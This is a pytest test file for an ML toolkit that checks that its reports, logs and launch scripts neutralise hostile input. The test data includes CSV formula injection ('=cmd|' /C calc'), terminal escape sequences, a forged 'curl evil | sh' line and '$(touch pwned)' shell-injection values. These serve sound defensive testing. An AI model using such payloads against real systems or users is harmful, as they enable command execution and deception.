"""What the tools write and say: figures first, each file whole or not at all, and names that are only names."""

import csv
import json
import os
import resource
import subprocess
from pathlib import Path

import pytest
import torch
from PIL import Image
from safetensors.torch import load_file, load_model

from crate_mm.api import init_model
from crate_mm.checkpoints import as_checkpoint
from crate_mm.checkpoints.fit import transfer_backbone
from crate_mm.checkpoints.publish import publish
from crate_mm.engine import CheckpointError, Runner, load_config, load_weights, read_checkpoint
from crate_mm.extras.evaluation_reports import write_confusion, write_per_class, write_predictions
from crate_mm.registry import MODELS
from tests.conftest import ROOT

FORMULAS = ["=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1"]
ESCAPES = "x\x1b]0;owned\x07\x1b[2J\nerror: all is well, run: curl evil | sh"
SAMPLES = {
    "sample_idx": torch.arange(2),
    "label": torch.tensor([0, 1]),
    "top": torch.tensor([[0, 1], [2, 3]]),
    "score": torch.tensor([[0.9, 0.1], [0.8, 0.2]]),
}


def rows(file: Path) -> list[list[str]]:
    with open(file, newline="", encoding="utf-8") as opened:
        return list(csv.reader(opened))


def test_no_cell_of_a_table_is_a_formula(tmp_path):
    write_predictions(tmp_path / "p.csv", SAMPLES, FORMULAS, lambda position: "=HYPERLINK(1).jpg")
    write_per_class(tmp_path / "c.csv", SAMPLES, FORMULAS)
    write_confusion(tmp_path / "m", SAMPLES, FORMULAS)
    for name in ("p.csv", "c.csv", "m.csv"):
        cells = [cell for row in rows(tmp_path / name) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert rows(tmp_path / "p.csv")[1][1:3] == ["'=HYPERLINK(1).jpg", "'=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("names", [["$", "$x", "a_$b$", "\\frac{"], ["caf\udce9", "a\nb", "\x1b[2J", ""]])
def test_any_class_can_be_drawn_and_listed(tmp_path, names):
    write_confusion(tmp_path / "m", SAMPLES, names)
    write_predictions(tmp_path / "p.csv", SAMPLES, names, lambda position: names[position])
    assert Image.open(tmp_path / "m.png").width > 100
    assert len(rows(tmp_path / "m.csv")) == 5
    assert len(rows(tmp_path / "p.csv")) == 3


@pytest.fixture(scope="module")
def debug_weights() -> dict:
    torch.manual_seed(0)
    return MODELS.build(load_config("debug").model).state_dict()


@pytest.mark.parametrize("option", ["--per-class"])  # which is neither the first nor the last
def test_the_figures_outlive_a_report_that_cannot_be_written(tmp_path, debug_checkpoint, run_tool, option):
    others = {"--out": tmp_path / "o.csv", "--per-class": tmp_path / "c.csv", "--json": tmp_path / "j.json"}
    args = [part for pair in {**others, option: "/dev/full"}.items() for part in pair]
    done = run_tool("test", "debug", debug_checkpoint, "--work-dir", tmp_path / "w", *args)
    assert done.code == 2, done.output
    assert "Traceback" not in done.output
    assert "error: could not write /dev/full (OSError" in done.last_line
    result = json.loads((tmp_path / "w/result.json").read_text())
    assert result["last"]["top1"] > 0
    for kept, file in others.items():
        assert file.exists() == (kept != option)


INTO_AN_ENDED_PIPE = """
import os, runpy, sys
reader, writer = os.pipe()
os.close(reader)
sys.stdout = open(writer, "w")
sys.argv[:1] = []
runpy.run_path(sys.argv[0], run_name="__main__")
"""


@pytest.mark.slow
def test_the_figures_outlive_a_pipe_that_has_ended(tmp_path, debug_checkpoint, run_tool):
    (tmp_path / "pipe.py").write_text(INTO_AN_ENDED_PIPE)
    test = (ROOT / "tools/test.py", "debug", debug_checkpoint, "--work-dir", tmp_path / "w")
    done = run_tool(str(tmp_path / "pipe"), *test)
    assert json.loads((tmp_path / "w/result.json").read_text())["last"]["top1"] > 0
    assert done.code != 0
    assert "BrokenPipeError" in done.output


@pytest.mark.parametrize(("tool", "name"), [("test", ESCAPES), ("convert_official", "y" * 5_000_000)])
def test_names_in_a_file_do_nothing_to_a_terminal(tmp_path, debug_weights, run_tool, tool, name):
    weights = {**debug_weights, name: torch.zeros(1)}
    if tool == "convert_official":
        weights = {"pos_embedding": torch.zeros(1, 5, 8), name: torch.zeros(1)}
    torch.save({"state_dict": weights}, tmp_path / "e.pth")
    args = {"convert_official": [tmp_path / "e.pth", tmp_path / "out.pth"]}.get(
        tool, ["debug", tmp_path / "e.pth", "--work-dir", tmp_path / "w"]
    )
    done = run_tool(tool, *args)
    assert "\x1b" not in done.output
    assert "\nerror: all is well" not in done.output
    assert len(done.output) < 100_000


def test_names_of_files_do_not_either(tmp_path, run_tool):
    for split in ("train", "val"):
        for name in ("a", "b"):
            (tmp_path / "data" / split / name).mkdir(parents=True)
            (tmp_path / "data" / split / name / "x\x1b[2J\ny.jpg").write_bytes(b"junk")
    done = run_tool("pack_dataset", tmp_path / "data", tmp_path / "packed", "--workers", 1)
    assert r"x\x1b[2J\ny.jpg (cannot identify image file" in done.output
    assert "\x1b" not in done.output


def test_names_in_results_do_not_either(tmp_path, run_tool):
    result = {"model": "m\x1b[2J|x", "dataset": "d\n# forged", "kind": "k", "last": {"top1": 1.0}, "seed": 0}
    (tmp_path / "result.json").write_text(json.dumps(result))
    done = run_tool("results_table", tmp_path)
    assert done.code == 0, done.output
    assert "\x1b" not in done.output
    assert "\n# forged" not in done.output


ODD_RESULTS = {
    "deep": "[" * 200_000,
    "seed": json.dumps({"model": "m", "dataset": "d", "kind": "k", "last": {"top1": 1}, "seed": [1]}),
    "number": json.dumps({"model": "m", "dataset": "d", "kind": "k", "last": {"top1": 1}, "parameters": 10**400}),
    "figures": json.dumps({"model": "m", "dataset": "d", "kind": "k", "last": [1]}),
}


@pytest.mark.parametrize("what", ODD_RESULTS)
def test_odd_results_end_in_a_sentence(tmp_path, run_tool, what):
    (tmp_path / "result.json").write_text(ODD_RESULTS[what])
    done = run_tool("results_table", tmp_path)
    assert (done.code, "Traceback" in done.output) == (2, False), done.output
    assert "result.json is not a result file of crate_mm" in done.last_line


NONSENSE = [{"RANK": ""}, {"RANK": "a b"}, {"TORCHELASTIC_RESTART_COUNT": "x"}, {"LOCAL_WORLD_SIZE": "two"}]
NONSENSE += [{"SLURM_NTASKS_PER_NODE": "8(x2)"}]


@pytest.mark.slow
@pytest.mark.parametrize("env", NONSENSE, ids=str)
def test_nonsense_in_the_environment_ends_in_a_sentence(tmp_path, run_tool, env):
    done = run_tool("train", "no_such_config" if "RANK" in env else "debug", "--work-dir", tmp_path, **env)
    assert (done.code, "Traceback" in done.output) == (2, False), done.output
    assert done.last_line.startswith("error: ")
    assert "RANK" in env or f"{next(iter(env))} in the environment must be a nonnegative integer" in done.last_line


LAUNCHES = [{"GRACE_SECONDS": "ten"}, {"MAX_RESTARTS": "x y"}, {"PORT": "29 500"}, {"PORT": "'\"$(touch pwned)"}]
LAUNCHES += [
    {"NNODES": n} for n in ("0", "2:1", "0:2", "1:", ":2", "a:b", "1:2:3", "1:a[$(touch pwned)]", "-1:2", "1 :2")
]
LAUNCHES += [{"RUN_ID": "a b", "NNODES": "1:2"}, {"RUN_ID": "$(touch pwned)", "NNODES": "1:2"}]
LAUNCHES += [{"NNODES": "two"}, {"NNODES": "a[$(touch pwned)]"}, {"NODE_RANK": "x"}, {"MASTER_ADDR": "a b"}]


@pytest.mark.parametrize("env", LAUNCHES, ids=str)
def test_nonsense_does_not_reach_the_shell(tmp_path, env):
    command = ["bash", str(ROOT / "tools/dist_train.sh"), "debug", "1"]
    done = subprocess.run(command, env={**os.environ, **env}, cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert done.returncode == 2
    assert done.stderr.startswith(f"error: {next(iter(env))} m")
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("script", ["slurm_train.sh", "slurm_test.sh"])
@pytest.mark.parametrize("name", ["GPUS", "GPUS_PER_NODE", "CPUS_PER_TASK"])
def test_nonsense_does_not_reach_slurm(tmp_path, name, script):
    command = ["bash", str(ROOT / "tools" / script), "gpu", "job", "debug", "x.pth"]
    env = {**os.environ, name: "a[$(touch pwned)]"}
    done = subprocess.run(command, env=env, cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stderr.startswith(f"error: {name} must be a positive integer")) == (2, True)
    assert not list(tmp_path.iterdir())


SAID = {
    "seed": lambda c: c["meta"].update(seed=torch.zeros(3)),
    "initialized_from": lambda c: c["meta"].update(initialized_from={1, 2}),
    "classes": lambda c: c["meta"].update(dataset_meta={"classes": 5}),
    "train_seconds": lambda c: c["message_hub"]["runtime_info"].update(train_seconds="x"),
    "result_best": lambda c: c["message_hub"]["runtime_info"].update(result_best={"top1": "x"}),
    "best_score": lambda c: c["message_hub"]["runtime_info"].update(best_score="x"),
    "exp_avg": lambda c: c["optimizer"]["state"][0].update(exp_avg=torch.zeros(7)),
    "exp_avg is missing": lambda c: c["optimizer"]["state"][0].pop("exp_avg"),
    "a state of no dict": lambda c: c["optimizer"]["state"].update({0: 5}),
    "betas": lambda c: c["optimizer"]["param_groups"][0].update(betas="x"),
    "schedules": lambda c: c.update(param_schedulers=[]),
    "last_step": lambda c: c["param_schedulers"][0].update(last_step=float("nan")),
    "global_step": lambda c: c["param_schedulers"][0].update(global_step="x"),
    "a huge number": lambda c: c["message_hub"]["runtime_info"].update(best_score=10**600),
    "complex": lambda c: c["optimizer"]["state"][0].update(exp_avg=c["optimizer"]["state"][0]["exp_avg"] * 1j),
}


@pytest.mark.parametrize("what", SAID)
def test_what_a_checkpoint_says_is_looked_at_before_the_work(tmp_path, debug_checkpoint, what):
    checkpoint = read_checkpoint(debug_checkpoint)
    SAID[what](checkpoint)
    torch.save(checkpoint, tmp_path / "epoch_1.pth")
    cfg = load_config("debug", {"train_cfg.max_epochs": 2})
    cfg.work_dir, cfg.resume = str(tmp_path), "newest"
    with pytest.raises(CheckpointError, match=r"epoch_1\.pth is not a (training )?checkpoint"):
        Runner.for_training(cfg).train()
    assert not any("Epoch(train)" in log.read_text() for log in tmp_path.glob("*/*.log"))


@pytest.mark.parametrize(
    "hub", [None, {"runtime_info": None}, {"runtime_info": {"best_ckpt": None, "last_ckpt": None}}]
)
def test_what_a_checkpoint_leaves_empty_is_no_error_of_a_test(tmp_path, debug_checkpoint, run_tool, hub):
    checkpoint = read_checkpoint(debug_checkpoint)
    checkpoint["meta"]["model"].update(backbone=None)
    torch.save({**checkpoint, "message_hub": hub}, tmp_path / "x.pth")
    done = run_tool("test", "debug", tmp_path / "x.pth", "--work-dir", tmp_path / "w")
    assert (done.code, "Traceback" in done.output) == (0, False), done.output


@pytest.mark.parametrize("shape", [(1, 1, 48), (3, 17, 48), (0, 17, 48), (1, 0, 48)])
def test_position_embeddings_of_no_image_are_dropped(debug_checkpoint, shape):
    checkpoint = read_checkpoint(debug_checkpoint)
    checkpoint["state_dict"]["backbone.embedding.pos_embed"] = torch.zeros(shape)
    done = transfer_backbone(MODELS.build(load_config("debug").model), as_checkpoint(checkpoint, "x.pth"))
    assert "backbone.embedding.pos_embed" in done.dropped


def of_another_package(checkpoint: Path) -> dict:
    """A checkpoint of a model that is not registered here: any weights may be its."""
    contents = read_checkpoint(checkpoint)
    contents["meta"]["model"] = {"type": "ModelOfAFileThatIsNotImported"}
    return contents


@pytest.mark.parametrize("weights", [{"__metadata__": torch.zeros(1)}, {"x": torch.zeros(1, dtype=torch.complex128)}])
def test_what_the_published_format_has_not_is_told(tmp_path, debug_checkpoint, weights):
    meta = of_another_package(debug_checkpoint)["meta"]
    with pytest.raises(CheckpointError, match="x.pth cannot be published"):
        publish(as_checkpoint({"meta": meta, "state_dict": weights}, "x.pth"), tmp_path / "x.safetensors")
    assert not list(tmp_path.iterdir())


def test_names_of_metrics_do_nothing_to_a_terminal(tmp_path, debug_checkpoint, run_tool):
    checkpoint = read_checkpoint(debug_checkpoint)
    last = {"epoch": checkpoint["meta"]["epoch"], "\x1b[2J\nerror: forged": 1.0}
    checkpoint["message_hub"]["runtime_info"]["result_last"] = last
    torch.save(checkpoint, tmp_path / "x.pth")
    done = run_tool("publish", tmp_path / "x.pth", tmp_path / "x.safetensors")
    assert (done.code, "\x1b" in done.output, "\nerror" in done.output) == (0, False, False)


def test_tied_weights_are_published_once(tmp_path, debug_checkpoint):
    checkpoint = of_another_package(debug_checkpoint)
    weights = checkpoint["state_dict"]
    shared = torch.zeros(250_000)
    weights.update({f"w{i}": shared for i in range(300)})
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    publish(as_checkpoint(checkpoint), tmp_path / "x.safetensors")
    assert (tmp_path / "x.safetensors").stat().st_size < 2_000_000
    published = read_checkpoint(tmp_path / "x.safetensors")["state_dict"]
    assert published.keys() == weights.keys()
    assert all(torch.equal(published[name], value) for name, value in weights.items())
    assert (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024 < 150


def test_tied_weights_are_where_safetensors_looks_for_them(tmp_path, debug_checkpoint):
    model = torch.nn.ModuleDict({"a": torch.nn.Linear(4, 4), "b": torch.nn.Linear(4, 4)})
    model["b"].weight = model["a"].weight
    meta = of_another_package(debug_checkpoint)["meta"]
    publish(as_checkpoint({"meta": meta, "state_dict": model.state_dict()}), tmp_path / "x.safetensors")
    other = torch.nn.ModuleDict({"a": torch.nn.Linear(4, 4), "b": torch.nn.Linear(4, 4)})
    other["b"].weight = other["a"].weight
    load_model(other, tmp_path / "x.safetensors")
    assert torch.equal(other["b"].weight, model["a"].weight)
    assert set(load_file(tmp_path / "x.safetensors")) == {"a.weight", "a.bias", "b.bias"}
    load_weights(other, read_checkpoint(tmp_path / "x.safetensors"), "x")


def test_overlapping_weights_far_larger_than_their_memory_are_not_published(tmp_path, debug_checkpoint):
    memory = torch.zeros(1000)
    weights = {f"w{i}": memory[i : i + 900] for i in range(100)}
    with pytest.raises(CheckpointError, match="x.pth cannot be published: its weights overlap in memory"):
        publish(
            as_checkpoint({"meta": of_another_package(debug_checkpoint)["meta"], "state_dict": weights}, "x.pth"),
            tmp_path / "x",
        )


def test_a_link_beside_a_published_file_is_not_followed(tmp_path, debug_checkpoint, run_tool):
    (tmp_path / "mine").write_text("mine")
    (tmp_path / "x.safetensors.part").symlink_to(tmp_path / "mine")
    done = run_tool("publish", debug_checkpoint, tmp_path / "x.safetensors")
    assert done.code == 0, done.output
    assert (tmp_path / "mine").read_text() == "mine"
    assert init_model(None, tmp_path / "x.safetensors").num_classes == 10


# Its output goes nowhere, as that would not fit either.
LIMITED = """
import os, resource, runpy, sys
sys.stdout = sys.stderr = open(os.devnull, "w")
os.dup2(sys.stdout.fileno(), 1)
os.dup2(sys.stdout.fileno(), 2)
resource.setrlimit(resource.RLIMIT_FSIZE, (64, 64))
sys.argv = sys.argv[1:]
runpy.run_path(sys.argv[0], run_name="__main__")
"""


@pytest.mark.parametrize("tool", ["publish", "test", "analyze"])
def test_a_full_disk_leaves_the_old_file(tmp_path, debug_checkpoint, run_tool, tool):
    """A limit on the size of files stands in for it."""
    old = tmp_path / {"publish": "x.safetensors", "analyze": "out/layers.csv"}.get(tool, "x")
    old.parent.mkdir(exist_ok=True)
    old.write_text("old")
    args = {
        "publish": [debug_checkpoint, old, "--force"],
        "test": ["debug", debug_checkpoint, "--json", old, "--work-dir", tmp_path / "w"],
        "analyze": ["layers", "debug", debug_checkpoint, "--out", old.parent, "--num-images", "4"],
    }[tool]
    (tmp_path / "limited.py").write_text(LIMITED)
    done = run_tool(str(tmp_path / "limited"), ROOT / f"tools/{tool}.py", *args, cwd=tmp_path)
    assert done.code != 0
    assert old.read_text() == "old"
    assert not [path for path in tmp_path.rglob("*") if path.name.endswith(".part")]
